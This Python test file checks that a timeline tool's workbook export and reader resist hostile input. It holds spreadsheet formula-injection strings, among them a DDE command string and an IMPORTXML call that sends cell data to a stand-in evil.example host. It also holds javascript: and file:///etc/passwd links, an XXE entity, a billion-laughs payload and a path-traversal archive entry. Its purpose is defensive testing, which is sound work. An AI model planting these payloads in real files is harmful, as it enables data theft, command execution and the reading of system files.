"""Nothing hostile gets into a workbook of ours as more than text, and nothing hostile gets out of a foreign one."""

from __future__ import annotations

import json
import re
import time
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from workbook_brief import EVENTS, MAIN, brief, parts, sheet, table, targets, xml

from timeline.config import Category
from timeline.errors import TimelineError
from timeline.model import Citation, Event, Finding, Severity, Source
from timeline.outputs import workbook
from timeline.outputs.workbook import cells, links, notes
from timeline.when import When

HOSTILE = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "'=1+1", '=HYPERLINK("http://evil.example/","x")',
    "=cmd|' /C calc'!A0", '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', "#REF!", "#N/A", "TRUE", "1E5",
    "2018-06-17", "_x0041_", "_x000D_", "\x00\x01\x1f", "\ud800 half", "\ufffe\uffff", "a\r\nb\rc\n", "  blanks  ",
    "<script>alert(1)</script>", "]]>", "&amp;&#10;&lt;", "</t></is></c><c><f>1+1</f></c>", "http://evil.example/",
    "javascript:alert(1)", "file:///etc/passwd", "\\\\evil.example\\share", "{{7*7}}", "${7*7}", "مرحبا \u202egnp.exe",
    '"quoted"', "a;b,c\td", "&Lleft&Rright&P",
]  # fmt: skip


def filled(text: str, number: int) -> Event:
    """An event with this text wherever a text can stand."""
    return Event(
        f"{text[:200]} {number}", text, When.parse("2018-06-17"), text, text, text, 1.5, 2.5, (text,), (text,),
        citations=(Citation(text, text), Citation("agency", text, None, 2)), notes=text, extra={"own": text, "2": text},
    )  # fmt: skip


def hostile(strings: list[str]) -> workbook.Brief:
    """A brief in which every text of every kind of row is hostile."""
    return brief(
        title=strings[0], subtitle=strings[-1],
        events=tuple(filled(text, number) for number, text in enumerate(strings)),
        sources=tuple(Source(text, text, text, text, None, text, text, text, text, text, text, text, text, text, text)
                      for text in dict.fromkeys(strings)),
        findings=tuple(Finding(text, text, Severity.NOTE, text, 1, text, text, text, text, text) for text in strings),
        categories=tuple(Category(text, "", text) for text in dict.fromkeys(strings)),
        changes=tuple(workbook.Change(text, "changed", text, text, text) for text in strings),
        since=strings[0], asked=strings[1], left_out=dict.fromkeys(strings[:5], 1), state=strings[2],
    )  # fmt: skip


def formulas(data: bytes) -> list[str]:
    """All formulas in cells of all sheets."""
    return [
        f"{name}: {''.join(one.itertext())}"
        for name, part in parts(data).items()
        if re.fullmatch(r"xl/worksheets/[^/]+\.xml", name)
        for one in xml(part).iter(f"{MAIN}f")
    ]


def strings_of(bench: Path) -> Iterator[str]:
    """All strings of the collections, line by line; the naughty ones as their list has them."""
    for file in sorted((bench / "hostile" / "strings").rglob("*")):
        if file.suffix == ".json":
            yield from (text for text in json.loads(file.read_text(encoding="utf-8")) if isinstance(text, str))
        elif file.is_file():
            yield from file.read_text(encoding="utf-8", errors="surrogateescape").splitlines()


def test_no_hostile_text_becomes_a_formula_or_a_link(tmp_path: Path, libreoffice: Callable[..., Path]) -> None:
    file = tmp_path / "brief.xlsx"
    file.write_bytes(workbook.render(hostile(HOSTILE)))
    for data in (file.read_bytes(), libreoffice(file, "xlsx").read_bytes()):
        assert formulas(data) == []
        assert targets(data) <= {"http://evil.example/"}


def test_hostile_texts_come_back_as_they_went_out_also_through_libreoffice(
    tmp_path: Path, libreoffice: Callable[..., Path]
) -> None:
    file = tmp_path / "brief.xlsx"
    file.write_bytes(workbook.render(hostile(HOSTILE)))
    for returned in (file, libreoffice(file, "xlsx"), libreoffice(file, "ods")):
        back = {row["id"]: row for row in workbook.read(returned).rows()}
        for event in hostile(HOSTILE).events:
            row = workbook.held(event)
            assert back[row["id"]] == row


def test_all_collected_strings_stay_text_in_every_column(
    bench: Path, tmp_path: Path, libreoffice: Callable[..., Path]
) -> None:
    strings = list(dict.fromkeys(text[:300] for text in strings_of(bench)))
    assert len(strings) > 2000
    # LibreOffice needs minutes for all of them twenty times over; those that a formula, a link or an error begins with
    # are what it could take for more than text.
    begin = [text for text in strings if re.match(r"\s*[-=+@'\"#{\\]|\s*[a-z]+:", text, re.IGNORECASE)]
    for held, saved_again in ((strings, False), (begin, True)):
        file = tmp_path / "brief.xlsx"
        every = [filled(text, number) for number, text in enumerate(held)]
        file.write_bytes(workbook.render(brief(events=every, sources=[Source(text, text, url=text) for text in held])))
        data = (libreoffice(file, "xlsx") if saved_again else file).read_bytes()
        assert formulas(data) == []
        assert all(re.match("https?://", target, re.IGNORECASE) for target in targets(data))
        assert len(list(sheet(data, "Events").iter(f"{MAIN}row"))) >= len(held)


def test_every_text_cell_has_the_quote_prefix() -> None:
    data = workbook.render(hostile(HOSTILE[:9]))
    styles = xml(parts(data)["xl/styles.xml"]).find(f"{MAIN}cellXfs")
    for name in ("Brief", "Timeline", "Events", "Citations", "Sources", "Changes", "Findings", "Codebook", "State"):
        for cell in sheet(data, name).iter(f"{MAIN}c"):
            if cell.get("t") == "inlineStr" and "".join(cell.itertext()):
                ours = name == "Events" and cell.get("r", "")[0] in "KL"  # "open" and "unknown" beside real days
                assert styles[int(cell.get("s", "0"))].get("quotePrefix") == "1" or ours, cell.get("r")


@pytest.mark.parametrize(
    ("address", "target"),
    [
        ("https://example.org/a?b=1&c=2#d", "https://example.org/a?b=1&c=2#d"),
        (" HTTP://Example.org ", "HTTP://Example.org"),
        ('https://example.org/"x"', "https://example.org/%22x%22"),
        ("https://bücher.example/ü", "https://bücher.example/ü"),
        ("javascript:alert(1)", ""),
        ("data:text/html,x", ""),
        ("file:///etc/passwd", ""),
        ("ftp://example.org", ""),
        ("//example.org", ""),
        ("https:", ""),
        ("https:///x", ""),
        ("http://[::1", ""),
        ("java\nscript:alert(1)", ""),
        ("https://example.org/\u202egnp", ""),
        ("https://example.org/" + "x" * 2079, ""),
    ],
)
def test_only_http_and_https_become_links(address: str, target: str) -> None:
    assert links.address(address) == target


def test_a_text_too_long_for_a_cell_is_cut_marked_and_listed(tmp_path: Path) -> None:
    for long in ("x" * 32_768, "🙂" * 16_384):
        event = replace(EVENTS[1], summary=long)
        file = tmp_path / "brief.xlsx"
        file.write_bytes(workbook.render(brief(events=(event,))))
        row = table(file.read_bytes(), "Events")[0]
        assert cells.length(row["Summary"]) <= cells.MOST_CHARACTERS
        assert row["Summary"].endswith("… [cut]")
        listed = table(file.read_bytes(), "Findings")[-1]
        assert (listed["Column"], listed["Event"]) == ("summary", event.id)
        assert "32,768 characters" in listed["What is wrong"]
    fits = replace(EVENTS[1], summary="x" * 32_767)
    assert len(table(workbook.render(brief(events=(fits,))), "Events")[0]["Summary"]) == 32_767


def test_links_and_notes_stop_where_the_programs_do_and_it_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(links, "MOST_LINKS", 4)
    monkeypatch.setattr(notes, "MOST_NOTES", 2)
    data = workbook.render(brief())
    for name in ("Events", "Citations"):
        assert len(list(sheet(data, name).iter(f"{MAIN}hyperlink"))) == 4
    hung = [part for name, part in parts(data).items() if name.startswith("xl/comments/")]
    assert hung[0].count(b"<comment ref=") == 1 + 2  # the one on the head of the column, and those on titles
    assert any(row.get("First source on the web") for row in table(data, "Events")[5:])
    told = ["".join(cell.itertext()) for cell in sheet(data, "Brief").iter(f"{MAIN}c")]
    assert any(text.startswith("A sheet can hold 4 links") for text in told)
    assert any(text.startswith("Notes with the quotes hang on the first 2 titles") for text in told)


def test_foreign_workbooks_give_a_result_or_a_clear_refusal(bench: Path) -> None:
    read, refused = 0, 0
    for file in sorted((bench / "hostile").rglob("*")):
        if file.suffix in {".xls", ".xlsx", ".xlsm", ".xlsb", ".ods", ".xltx", ".xltm"}:
            begun = time.process_time()
            try:
                with workbook.Book(file) as book:
                    for name in book.names:
                        for _ in book.rows(name):
                            pass
                read += 1
            except workbook.BadWorkbook as error:
                refused += str(file) in str(error) and bool(error.hint)
            assert time.process_time() - begun < 10, file
    assert read > 100
    assert refused > 50


CONTENT = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
)
BOOK = (
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats'
    '.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="a"/></sheets></workbook>'
)
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" '
    'Type="http://x/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)


def bare(file: Path, content: str | bytes, **more: str) -> Path:
    """The least workbook that is one, with this sheet."""
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("xl/workbook.xml", more.get("book", BOOK))
        package.writestr("xl/_rels/workbook.xml.rels", more.get("relations", RELATIONS))
        package.writestr("xl/worksheets/sheet1.xml", content)
    return file


def read_all(file: Path, **limits: float) -> list[workbook.Row]:
    with workbook.Book(file, workbook.Limits(**limits)) as book:  # type: ignore[arg-type]
        return [row for name in book.names for row in book.rows(name)]


LONG = f'<c t="str"><v>{"x" * 1_000_000}</v></c>'
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    ("content", "limits", "told"),
    [
        ('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet>&e;</worksheet>', {}, "entities"),
        (f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]><worksheet>&l9;</worksheet>', {}, "entities"),
        (CONTENT.format("<row r='1'>") + "unclosed", {}, "damaged"),
        (CONTENT.format('<row r="2"><c r="A2"><v>1</v></c></row>'), {"rows": 1}, "more than 1 rows"),
        (CONTENT.format('<row r="1"><c r="ZZZZ1"><v>1</v></c></row>'), {}, "more than 16,384 columns"),
        (CONTENT.format("<row></row>" * 1000), {"seconds": -1}, "longer than -1 seconds"),
        (CONTENT.format(f'<row><c t="str"><v>{"x" * 1_000_001}</v></c></row>'), {"ratio": 2000}, "a cell of more"),
        (CONTENT.format(f"<row>{LONG * 21}</row>"), {"ratio": 2000}, "a row of more"),
        (CONTENT.format(f'<row><c t="{"&lt;" * 5_000_000}"/></row>'), {"ratio": 2000}, "a tag of more than"),
        (CONTENT.format(" " * 50_000_000), {}, "packed"),
        (CONTENT.format(""), {"part_bytes": 20}, "unpacks to"),
        (CONTENT.format(""), {"file_bytes": 20}, "20 are allowed"),
        (CONTENT.format(""), {"parts": 2}, "2 are allowed"),
    ],
    ids=["external entity", "laughs", "damaged", "rows", "columns", "time", "cell", "row", "tag", "bomb", "part",
         "file", "parts"],
)  # fmt: skip
def test_a_workbook_that_asks_for_too_much_is_refused(
    tmp_path: Path, content: str, limits: dict[str, float], told: str
) -> None:
    file = bare(tmp_path / "bad.xlsx", content)
    with pytest.raises(workbook.BadWorkbook, match=re.escape(told)) as caught:
        read_all(file, **limits)
    assert isinstance(caught.value, TimelineError)


OPEN = (
    '<o:document-content xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:'
    'opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:'
    'names:tc:opendocument:xmlns:drawing:1.0"><o:body><o:spreadsheet>{}</o:spreadsheet></o:body></o:document-content>'
)


def spreadsheet(file: Path, content: str, kind: str = "application/vnd.oasis.opendocument.spreadsheet") -> Path:
    """The least OpenDocument file with this in its body."""
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("mimetype", kind)
        package.writestr("content.xml", OPEN.format(content))
    return file


def cell(text: str, more: str = "", inside: str = "") -> str:
    return f"<table:table-cell {more}>{inside}<text:p>{text}</text:p></table:table-cell>"


def one_row(cells_of_it: str, more: str = "") -> str:
    return f'<table:table table:name="S"><table:table-row {more}>{cells_of_it}</table:table-row></table:table>'


def test_the_cells_of_an_opendocument_sheet_are_told_from_what_hangs_on_them(tmp_path: Path) -> None:
    note = "<o:annotation><text:p>a note</text:p></o:annotation>"
    drawing = "<draw:frame><draw:text-box><text:p>drawn</text:p></draw:text-box></draw:frame>"
    inner = one_row(cell("within")).replace('"S"', '"inner"')
    deleted = f"<table:tracked-changes>{one_row(cell('deleted'))}</table:tracked-changes>"
    content = deleted + one_row(
        cell("a", inside=note + drawing)
        + cell("two", 'table:number-columns-repeated="2"')
        + '<table:table-cell table:number-columns-repeated="9"/>'
        + cell("1<text:s text:c='2'/>2<text:tab/>3<text:line-break/>4</text:p><text:p>5", inside=inner)
        + cell("17/06/18", 'o:value-type="date" o:date-value="2018-06-17T00:00:00"')
        + cell("3,50 €", 'o:value-type="currency" o:value="3.5"')
        + cell("WAHR", 'o:value-type="boolean" o:boolean-value="true"'),
        'table:number-rows-repeated="2"',
    )
    file = spreadsheet(tmp_path / "some.ods", content)
    with workbook.Book(file) as book:
        assert book.names == ("S",)
        rows = list(book.rows("S"))
    assert [row.number for row in rows] == [1, 2]
    assert rows[0].cells == rows[1].cells == {
        1: "a", 2: "two", 3: "two", 13: "1  2\t3\n4\n5", 14: "2018-06-17", 15: "3.5", 16: "TRUE",
    }  # fmt: skip


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (one_row(cell("x", 'table:number-columns-repeated="99999"')), "more than 16,384 columns"),
        (one_row(cell("x"), 'table:number-rows-repeated="9999999"'), "more than 1,048,576 rows"),
        (one_row(cell("x", 'table:number-columns-repeated="9000"'), 'table:number-rows-repeated="900000"'), "repeats"),
        (one_row(cell("x" * 1_000_001)), "a cell of more"),
        (one_row(cell("x" * 900_000) * 23), "a row of more"),
        ("&bomb;", "damaged"),
        ("<unclosed>", "damaged"),
    ],
    ids=["columns", "rows", "repeated", "cell", "row", "entity", "unclosed"],
)
def test_an_opendocument_sheet_that_asks_for_too_much_is_refused(tmp_path: Path, content: str, told: str) -> None:
    with pytest.raises(workbook.BadWorkbook, match=re.escape(told)):
        read_all(spreadsheet(tmp_path / "bad.ods", content), ratio=2000)


def test_an_opendocument_file_that_is_no_spreadsheet_is_refused(tmp_path: Path) -> None:
    with pytest.raises(workbook.BadWorkbook, match="no spreadsheet"):
        workbook.Book(spreadsheet(tmp_path / "text.ods", "", "application/vnd.oasis.opendocument.text"))


def test_a_path_in_the_archive_stays_in_it(tmp_path: Path) -> None:
    (tmp_path / "secret.xml").write_text(CONTENT.format('<row r="1"><c r="A1"><v>1</v></c></row>'), encoding="utf-8")
    away = RELATIONS.replace("worksheets/sheet1.xml", "../../../../../../" + str(tmp_path) + "/secret.xml")
    with pytest.raises(workbook.BadWorkbook, match="lacks a part that it names"):
        read_all(bare(tmp_path / "bad.xlsx", "", relations=away))


def test_a_file_that_is_none_or_not_there_is_refused_in_words(tmp_path: Path) -> None:
    (tmp_path / "text.xlsx").write_text("id,date\n", encoding="utf-8")
    for name, told in (("text.xlsx", "is no workbook"), ("absent.xlsx", "can't be opened")):
        with pytest.raises(workbook.BadWorkbook, match=told):
            workbook.Book(tmp_path / name)


def test_a_million_far_cells_need_no_memory_for_the_empty_ones_between(tmp_path: Path) -> None:
    rows = "".join(f'<row r="{n}"><c r="XFD{n}"><v>{n}</v></c></row>' for n in range(1, 1_048_576, 1000))
    found = read_all(bare(tmp_path / "far.xlsx", CONTENT.format(rows)))
    assert len(found) == 1049
    assert found[0].cells == {16_384: "1"}
